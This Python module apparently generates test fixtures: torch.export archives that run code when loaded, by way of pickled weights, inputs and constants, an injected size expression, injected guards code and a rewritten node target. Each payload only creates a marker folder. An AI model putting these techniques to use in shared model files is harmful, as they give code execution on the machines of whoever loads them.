"""Files of torch.export that run code in whoever loads them by `torch.export.load`.

Each payload would make a folder `ran` where it runs. What is said of torch is of 2.13.0.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

import torch
from torch import nn

MARK = "ran"
_EXPRESSION = f"__import__('os').mkdir('{MARK}') or 5"


class Payload:
    """Makes the folder when it is unpickled."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.mkdir, (MARK,)


def traced() -> Iterator[tuple[str, bytes]]:
    """The good file first: it runs nothing, and is none of ours either."""
    yield "clean", _with(lambda _: None)
    for name, change in _HOLES.items():
        yield name, _with(change)


@cache
def _clean() -> dict[str, bytes]:
    module = nn.Sequential(nn.Linear(4, 3), nn.ReLU())
    batch = torch.export.Dim("batch", min=1, max=64)
    program = torch.export.export(module, (torch.zeros(4, 4),), dynamic_shapes=({0: batch},))
    file = io.BytesIO()
    torch.export.save(program, file)
    with zipfile.ZipFile(file) as archive:
        return {each: archive.read(each) for each in archive.namelist()}


def _with(change: Callable[[dict[str, bytes]], None]) -> bytes:
    whole = _clean()
    root = next(iter(whole)).split("/")[0]
    entries = {name.removeprefix(f"{root}/"): data for name, data in whole.items()}
    change(entries)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries.items():
            archive.writestr(f"{root}/{name}", data)
    return file.getvalue()


def _saved() -> bytes:
    file = io.BytesIO()
    torch.save(Payload(), file)
    return file.getvalue()


def _pickled_weight(entries: dict[str, bytes]) -> None:
    place = "data/weights/model_weights_config.json"
    config = json.loads(entries[place])
    first = next(iter(config["config"].values()))
    first["use_pickle"] = True
    entries[place] = json.dumps(config).encode()
    entries[f"data/weights/{first['path_name']}"] = _saved()


def _opaque(entries: dict[str, bytes]) -> None:
    constant = {
        "path_name": "opaque_obj_0",
        "is_param": False,
        "use_pickle": True,
        "tensor_meta": None,
    }
    config = {"config": {"c": constant}}
    entries["data/constants/model_constants_config.json"] = json.dumps(config).encode()
    entries["data/constants/opaque_obj_0"] = pickle.dumps(Payload())


def _model(change: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, bytes]], None]:
    def edit(entries: dict[str, bytes]) -> None:
        model = json.loads(entries["models/model.json"])
        change(model)
        entries["models/model.json"] = json.dumps(model).encode()

    return edit


def _expression(model: dict[str, Any]) -> None:
    def walk(value: Any) -> None:
        if isinstance(value, dict):
            if "expr_str" in value:
                value["expr_str"] = _EXPRESSION
            for each in value.values():
                walk(each)
        elif isinstance(value, list):
            for each in value:
                walk(each)

    walk(model)


def _target(model: dict[str, Any]) -> None:
    first = model["graph_module"]["graph"]["nodes"][0]
    first["target"] = "torch.os.mkdir"
    first["inputs"] = [{"name": "", "arg": {"as_string": MARK}, "kind": 1}]


_HOLES: dict[str, Callable[[dict[str, bytes]], None]] = {
    "pickled weight": _pickled_weight,
    "legacy weights": lambda entries: entries.__setitem__("data/weights/model.pt", _saved()),
    "example inputs": lambda entries: entries.__setitem__("data/sample_inputs/model.pt", _saved()),
    "opaque constant": _opaque,
    "size as an expression": _model(_expression),
    "guards": _model(lambda model: model.__setitem__("guards_code", [_EXPRESSION])),
    "target of a node": _model(_target),
}
